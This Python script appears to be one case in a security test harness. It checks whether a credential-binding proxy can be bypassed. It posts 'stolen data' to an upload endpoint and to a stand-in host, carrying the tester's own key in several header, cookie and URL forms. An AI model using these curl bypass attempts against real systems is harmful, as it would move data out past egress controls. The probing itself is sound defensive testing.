# Case 16: credentials of one's own to the host of a binding, in every place that a
# server may read them from.
from attempts import *
from masked import *

own = "sk-of-the-attacker"
basic = base64.b64encode(f"user:{own}".encode()).decode()
work = []
for header in (f"Authorization: Bearer {own}", f"authorization: Basic {basic}", f"Proxy-Authorization: Bearer {own}", f"Cookie: session={own}"):
    work.append((header.split(":")[0] + " " + header.split()[1], lambda h=header: curl("-H", h, "-d", "stolen data", BASE + "/v1/upload")))
work.append(("two of them", lambda: curl("-H", f"Authorization: Bearer {own}", "-H", f"Authorization: Bearer {own}2", BASE + "/v1/upload")))
work.append(("in the URL", lambda: curl(BASE.replace("http://", f"http://user:{own}@") + "/v1/upload")))
for name, f in work:  # what comes back is welcome: how it arrived is what counts
    try:
        print("tried", name, "-", str(f())[:60].replace("\n", " "), flush=True)
    except (OSError, subprocess.SubprocessError) as e:
        print("tried", name, "-", type(e).__name__, flush=True)
for scheme in ("https", "http"):
    attempt(f"around the binding by {scheme}", lambda s=scheme: curl("-k", "-H", f"Authorization: Bearer {own}", "-d", "stolen data", f"{s}://api.vault.example/v1/upload"))
